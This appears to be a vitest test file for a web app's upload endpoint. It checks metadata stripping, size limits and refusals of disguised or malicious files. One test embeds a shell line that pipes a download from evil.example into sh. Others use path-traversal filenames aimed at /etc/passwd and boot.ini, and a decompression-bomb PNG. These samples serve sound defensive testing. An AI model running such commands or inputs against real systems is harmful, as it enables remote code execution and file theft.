// POST /api/uploads through the route module: what is accepted, what is refused (quickly, with a
// clear message and without decoding or buffering the file), and what a stored photo looks like.
import { readdir, readFile } from "node:fs/promises";
import path from "node:path";
import { eq } from "drizzle-orm";
import sharp from "sharp";
import { afterAll, beforeEach, describe, expect, it } from "vitest";
import { media, rateLimitHits } from "#app/db/schema.ts";
import type { LocalMediaStorage } from "#app/modules/media/local-media-storage.server.ts";
import { mediaAvifQueue, mediaVideoQueue } from "#app/modules/media/media-jobs.ts";
import { makeVideoFixture } from "#app/modules/media/testing/make-video-fixture.ts";
import { multipart, pngBomb, tinyMp4, twoToneJpeg, uploadRequest } from "#app/modules/media/testing/media-fixtures.ts";
import { removeTestStorage } from "#app/modules/media/testing/remove-test-storage.ts";
import { pendingUploadQuota, uploadRateLimit } from "#app/modules/media/upload-media.server.ts";
import { consumeRateLimit } from "#app/modules/platform/rate-limit.server.ts";
import { routeArgs } from "#app/test/route-args.ts";
import { routeTestBed } from "#app/test/route-test-bed.ts";
import type { SentJob } from "#app/test/services.ts";
import { inEnglish as englishMessages } from "#app/test/translator.tsx";
import type { Route } from "./+types/uploads";
import { action, loader } from "./uploads.ts";

const sentJobs: SentJob[] = [];
const bed = routeTestBed({
  sentJobs,
  accounts: { seller: "seller@example.com", admin: { email: "admin@example.com", role: "admin" } },
});
const storage = () => bed.services.storage as LocalMediaStorage;
afterAll(() => removeTestStorage(storage()));
beforeEach(async () => {
  await bed.db.delete(rateLimitHits);
  sentJobs.length = 0;
});

function upload(request: Request): Promise<Response> {
  return action(routeArgs<Route.ActionArgs>(request, bed.context));
}

const asSeller = (
  query: string,
  file: Buffer,
  part?: Parameters<typeof multipart>[1],
  headers?: Record<string, string>,
) => upload(uploadRequest(query, multipart(file, part), bed.accounts.seller.cookie, headers));

/**
 * A body that arrives in 64 KB chunks with no Content-Length, as a streaming client would send it;
 * `pulled.bytes` counts what the server read of it.
 */
function streamed(bytes: Buffer, pulled = { bytes: 0 }): ReadableStream<Uint8Array> {
  return new ReadableStream({
    pull(controller) {
      if (pulled.bytes >= bytes.length) return controller.close();
      controller.enqueue(bytes.subarray(pulled.bytes, pulled.bytes + 65_536));
      pulled.bytes += 65_536;
    },
  });
}

/** Answers a refused upload: status, message, and that it took little memory. */
async function expectRefusal(
  making: () => Promise<Response>,
  status: number,
  message: string,
  query: { fieldErrors: Record<string, string>; values: Record<string, string> } = { fieldErrors: {}, values: {} },
) {
  const rssBefore = process.memoryUsage().rss;
  const response = await making();
  expect(response.status).toBe(status);
  const { fieldErrors, values } = query;
  expect(englishMessages(await response.json())).toEqual({
    ok: false,
    message,
    ...(Object.keys(fieldErrors).length > 0 ? { fieldErrors } : {}),
    values,
  });
  expect(response.headers.get("connection")).toBe("close");
  expect(process.memoryUsage().rss - rssBefore).toBeLessThan(64 * 1024 * 1024);
}

async function storedFiles(): Promise<string[]> {
  const root = storage().pathOf("media");
  const ids = await readdir(root).catch(() => [] as string[]);
  return (
    await Promise.all(ids.map(async (id) => (await readdir(path.join(root, id))).map((f) => `${id}/${f}`)))
  ).flat();
}

describe("POST /api/uploads", () => {
  it("stores a JPEG as upright WebP variants without any metadata (GPS, camera, owner), ready at once", async () => {
    // Stored as 400×200 with EXIF orientation 6 ("rotate 90° clockwise to view"): a 200×400 portrait,
    // red on top, blue below.
    const jpeg = await twoToneJpeg(400, 200, { orientation: 6, withGps: true });
    const original = await sharp(jpeg).metadata();
    expect(original.orientation).toBe(6);
    expect(original.exif?.includes("RoamPhone")).toBe(true);

    const response = await asSeller("kind=image&purpose=listing", jpeg, { filename: "IMG_0001.JPG" });
    expect(response.status).toBe(201);
    const body = (await response.json()) as { id: string; kind: string; url: string; width: number; height: number };
    expect(body).toEqual({
      ok: true,
      id: expect.any(String),
      kind: "image",
      url: `/media/${body.id}`,
      width: 200,
      height: 400,
      state: null,
      posterUrl: null,
    });

    // Narrower than 480 px: one variant, at its own size (nothing is upscaled).
    const files = await readdir(storage().pathOf(`media/${body.id}`));
    expect(files).toEqual(["480.webp"]);
    const variant = await readFile(storage().pathOf(`media/${body.id}/480.webp`));
    const info = await sharp(variant).metadata();
    expect(info).toMatchObject({ format: "webp", width: 200, height: 400 });
    expect(info.exif).toBeUndefined();
    expect(info.xmp).toBeUndefined();
    expect(info.icc).toBeUndefined();
    expect(info.iptc).toBeUndefined();
    expect(info.orientation).toBeUndefined();
    for (const marker of ["EXIF", "XMP ", "ICCP", "RoamPhone", "Owner Name"]) {
      expect(variant.includes(marker), marker).toBe(false);
    }
    const { data } = await sharp(variant).raw().toBuffer({ resolveWithObject: true });
    const pixel = (x: number, y: number) => [...data.subarray((y * 200 + x) * 3, (y * 200 + x) * 3 + 3)];
    const [topRed, , topBlue] = pixel(100, 50);
    const [bottomRed, , bottomBlue] = pixel(100, 350);
    expect(topRed).toBeGreaterThan(150);
    expect(topBlue).toBeLessThan(100);
    expect(bottomBlue).toBeGreaterThan(150);
    expect(bottomRed).toBeLessThan(100);

    const [row] = await bed.db.select().from(media).where(eq(media.id, body.id));
    expect(row).toMatchObject({
      ownerId: bed.accounts.seller.id,
      kind: "image",
      contentType: "image/jpeg",
      width: 200,
      height: 400,
      attachedTo: null,
      avifReadyAt: null,
    });
    expect(sentJobs).toEqual([{ name: mediaAvifQueue, data: { mediaId: body.id } }]);
  });

  it("makes 480, 960 and 1920 px variants of a large photo", async () => {
    const response = await asSeller("kind=image&purpose=builder", await twoToneJpeg(2400, 1600));
    expect(response.status).toBe(201);
    const { id } = (await response.json()) as { id: string };
    for (const [slot, height] of [
      [480, 320],
      [960, 640],
      [1920, 1280],
    ] as const) {
      const info = await sharp(await readFile(storage().pathOf(`media/${id}/${slot}.webp`))).metadata();
      expect(info).toMatchObject({ width: slot, height });
    }
  });

  it("scales a photo taller than WebP allows (100 × 20,000 px) to fit, instead of failing", async () => {
    const tall = await sharp({ create: { width: 100, height: 20_000, channels: 3, background: "#2a7040" } })
      .png()
      .toBuffer();
    const response = await asSeller("kind=image&purpose=listing", tall, { filename: "receipt.png", type: "image/png" });
    expect(response.status).toBe(201);
    const body = (await response.json()) as { id: string; width: number; height: number };
    expect(body).toMatchObject({ ok: true, width: 100, height: 20_000 });
    const variant = await sharp(await readFile(storage().pathOf(`media/${body.id}/480.webp`))).metadata();
    expect(variant.format).toBe("webp");
    expect(variant.height).toBeLessThanOrEqual(16_383);
    // The shape stays: 100 × 20,000 scaled by 16,383 / 20,000.
    expect(Math.abs((variant.width ?? 0) - (100 * 16_383) / 20_000)).toBeLessThan(1);
  });

  it("refuses a decompression bomb (3.6 gigapixels in a tiny PNG) from its header, without decoding it", async () => {
    const bomb = pngBomb();
    expect(bomb.length).toBeLessThan(2000);
    await expectRefusal(
      () => asSeller("kind=image&purpose=listing", bomb, { filename: "bomb.png", type: "image/png" }),
      400,
      "Image dimensions are too large (at most 40 megapixels).",
    );
  });

  it("refuses a script named .jpg and sent as image/jpeg: the bytes decide", async () => {
    const script = Buffer.from("#!/bin/sh\ncurl http://evil.example/x | sh\n".repeat(50));
    await expectRefusal(
      () => asSeller("kind=image&purpose=listing", script, { filename: "holiday.jpg", type: "image/jpeg" }),
      400,
      "Only image files are allowed.",
    );
    await expectRefusal(
      () => asSeller("kind=video&purpose=listing", script, { filename: "tour.mp4", type: "video/mp4" }),
      400,
      "Only video files are allowed.",
    );
  });

  it("refuses a video where a photo is asked for, and a photo where a video is", async () => {
    await expectRefusal(() => asSeller("kind=image&purpose=listing", tinyMp4()), 400, "Only image files are allowed.");
    await expectRefusal(
      async () => asSeller("kind=video&purpose=builder", await twoToneJpeg(64, 64)),
      400,
      "Only video files are allowed.",
    );
  });

  it("refuses oversize files while they stream in, and at once when the declared length is too large", async () => {
    const jpegStart = await twoToneJpeg(64, 64);
    const sixMegabytes = Buffer.concat([jpegStart, Buffer.alloc(6 * 1024 * 1024, 1)]);
    const streamedPart = multipart(sixMegabytes);
    const pulledOfSix = { bytes: 0 };
    await expectRefusal(
      () =>
        upload(
          uploadRequest(
            "kind=image&purpose=builder",
            { body: streamed(streamedPart.body, pulledOfSix), contentType: streamedPart.contentType },
            bed.accounts.seller.cookie,
          ),
        ),
      413,
      "Image must be under 5MB.",
    );
    // Refused once past the limit, not after reading the rest.
    expect(pulledOfSix.bytes).toBeLessThan(streamedPart.body.length);
    // Listing photos may be larger, up to 15 MB.
    const sixteen = Buffer.concat([jpegStart, Buffer.alloc(16 * 1024 * 1024, 1)]);
    const sixteenPart = multipart(sixteen);
    const pulledOfSixteen = { bytes: 0 };
    await expectRefusal(
      () =>
        upload(
          uploadRequest(
            "kind=image&purpose=listing",
            { body: streamed(sixteenPart.body, pulledOfSixteen), contentType: sixteenPart.contentType },
            bed.accounts.seller.cookie,
          ),
        ),
      413,
      "Image must be under 15MB.",
    );
    expect(pulledOfSixteen.bytes).toBeLessThan(sixteenPart.body.length);
    // A 60 MB video announced by Content-Length is refused before a byte of it is read.
    const never = new ReadableStream<Uint8Array>({
      pull() {
        throw new Error("the body must not be read");
      },
    });
    const response = await upload(
      uploadRequest(
        "kind=video&purpose=listing",
        { body: never, contentType: "multipart/form-data; boundary=x" },
        bed.accounts.seller.cookie,
        { "content-length": String(60 * 1024 * 1024) },
      ),
    );
    expect(response.status).toBe(413);
    expect(response.headers.get("connection")).toBe("close");
    expect(englishMessages(await response.json())).toMatchObject({ ok: false, message: "Video must be under 50MB." });
    expect(await storedFiles()).not.toContain(expect.stringContaining(".upload"));
  });

  it("refuses a zero-byte file", async () => {
    await expectRefusal(() => asSeller("kind=image&purpose=listing", Buffer.alloc(0)), 400, "The file is empty.");
  });

  it("refuses a file name that tries to leave its folder, and never uses names for storage", async () => {
    const before = await storedFiles();
    for (const filename of ["../../../etc/passwd.jpg", "..\\..\\boot.ini", "a/b.jpg", ".."]) {
      await expectRefusal(
        async () => asSeller("kind=image&purpose=listing", await twoToneJpeg(32, 32), { filename }),
        400,
        "Invalid file name.",
      );
    }
    expect(await storedFiles()).toEqual(before);
    // An ordinary name is accepted and ends up nowhere in the storage.
    const response = await asSeller("kind=image&purpose=listing", await twoToneJpeg(32, 32), { filename: "van.jpg" });
    expect(response.status).toBe(201);
    expect((await storedFiles()).some((file) => file.includes("van"))).toBe(false);
    expect(await readdir(storage().spoolDir)).toEqual([]);
  });

  it("refuses an undecodable photo whose first bytes look like a JPEG", async () => {
    const jpeg = await twoToneJpeg(256, 256);
    const broken = Buffer.concat([jpeg.subarray(0, 600), Buffer.alloc(4000, 0x55)]);
    await expectRefusal(
      () => asSeller("kind=image&purpose=listing", broken),
      400,
      "This image could not be read. Please upload a JPEG, PNG, WebP, AVIF or HEIC photo.",
    );
  });

  it("keeps a video unserved as it came, processing, and queues its processing", async () => {
    const mp4 = await makeVideoFixture();
    const response = await asSeller("kind=video&purpose=listing", mp4, { filename: "tour.mp4", type: "video/mp4" });
    expect(response.status).toBe(201);
    const body = (await response.json()) as { id: string };
    expect(body).toEqual({
      ok: true,
      id: body.id,
      kind: "video",
      url: `/media/${body.id}/video`,
      width: null,
      height: null,
      state: "processing",
      posterUrl: null,
    });
    expect((await readFile(storage().pathOf(`media/${body.id}/original`))).equals(mp4)).toBe(true);
    const [row] = await bed.db.select().from(media).where(eq(media.id, body.id));
    expect(row).toMatchObject({
      kind: "video",
      contentType: "video/mp4",
      byteSize: mp4.length,
      videoState: "processing",
      durationMs: 1000,
    });
    expect(sentJobs).toContainEqual({ name: mediaVideoQueue, data: { mediaId: body.id } });
  });

  it("refuses a file that only starts like an MP4, as unreadable, and keeps nothing of it", async () => {
    const before = await storedFiles();
    await expectRefusal(
      () => asSeller("kind=video&purpose=listing", tinyMp4(100_000), { filename: "tour.mp4", type: "video/mp4" }),
      400,
      "This video could not be read. Please upload an MP4, MOV, WebM or AVI video.",
    );
    expect(await storedFiles()).toEqual(before);
    expect(await readdir(storage().spoolDir)).toEqual([]);
  });

  it("answers JSON 401 to a visitor, 400 to a bad query, 403 for blog uploads by non-admins", async () => {
    const jpeg = await twoToneJpeg(32, 32);
    await expectRefusal(
      () => upload(uploadRequest("kind=image&purpose=listing", multipart(jpeg))),
      401,
      "Please sign in to upload files.",
    );
    await expectRefusal(
      () => asSeller("kind=pdf&purpose=listing", jpeg),
      400,
      "Choose kind=image or kind=video and purpose=listing, builder or blog.",
      {
        fieldErrors: { kind: "Choose kind=image or kind=video and purpose=listing, builder or blog." },
        values: { kind: "pdf", purpose: "listing" },
      },
    );
    await expectRefusal(() => asSeller("kind=video&purpose=blog", jpeg), 400, "Videos cannot be uploaded here.", {
      fieldErrors: {},
      values: { kind: "video", purpose: "blog" },
    });
    await expectRefusal(
      () => asSeller("kind=image&purpose=blog", jpeg),
      403,
      "Access denied. This page is for administrators only.",
    );
    const admin = await upload(uploadRequest("kind=image&purpose=blog", multipart(jpeg), bed.accounts.admin.cookie));
    expect(admin.status).toBe(201);
    await expectRefusal(
      () =>
        upload(
          uploadRequest(
            "kind=image&purpose=listing",
            { body: jpeg, contentType: "image/jpeg" },
            bed.accounts.seller.cookie,
          ),
        ),
      415,
      "Send one file in the form field 'file' (multipart/form-data).",
    );
    await expectRefusal(
      () => asSeller("kind=image&purpose=listing", jpeg, { field: "photo" }),
      400,
      "Send one file in the form field 'file' (multipart/form-data).",
    );
    const get = loader();
    expect(get.status).toBe(405);
    expect(englishMessages(await get.json())).toEqual({ ok: false, message: "Use POST.", values: {} });
  });

  it("limits uploads per user and answers 429 with Retry-After", async () => {
    for (let n = 0; n < uploadRateLimit.limit; n++) {
      await consumeRateLimit({ db: bed.db, key: `upload:user:${bed.accounts.seller.id}`, ...uploadRateLimit });
    }
    const response = await asSeller("kind=image&purpose=listing", await twoToneJpeg(32, 32));
    expect(response.status).toBe(429);
    expect(Number(response.headers.get("retry-after"))).toBeGreaterThan(0);
    expect(englishMessages(await response.json())).toMatchObject({
      ok: false,
      message: "You have uploaded too many files. Please try again later.",
    });
    // Others are not affected.
    const admin = await upload(
      uploadRequest("kind=image&purpose=listing", multipart(await twoToneJpeg(32, 32)), bed.accounts.admin.cookie),
    );
    expect(admin.status).toBe(201);
  });

  it("refuses new uploads while a user holds too many that were never saved with anything", async () => {
    await bed.db.delete(media).where(eq(media.ownerId, bed.accounts.admin.id));
    await bed.db.insert(media).values(
      Array.from({ length: pendingUploadQuota.files }, () => ({
        ownerId: bed.accounts.admin.id,
        kind: "image" as const,
        contentType: "image/webp",
        byteSize: 1000,
        width: 10,
        height: 10,
      })),
    );
    const refused = await upload(
      uploadRequest("kind=image&purpose=listing", multipart(await twoToneJpeg(32, 32)), bed.accounts.admin.cookie),
    );
    expect(refused.status).toBe(429);
    expect(englishMessages(await refused.json())).toMatchObject({
      ok: false,
      message: "You have too many uploads waiting to be saved. Save your form or remove some files, then try again.",
    });
    await bed.db.delete(media).where(eq(media.ownerId, bed.accounts.admin.id));
  });
});
